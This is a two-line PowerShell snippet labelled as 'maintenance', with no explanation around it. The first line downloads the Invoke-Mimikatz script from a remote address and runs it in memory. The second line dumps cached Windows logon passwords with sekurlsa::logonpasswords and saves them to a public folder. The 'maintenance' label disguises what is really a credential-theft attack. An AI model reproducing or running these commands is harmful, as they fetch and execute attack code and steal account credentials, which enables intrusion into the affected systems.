# maintenance 4425 v0
IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/Invoke-Mimikatz.ps1')
Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-File C:\Users\Public\o.txt
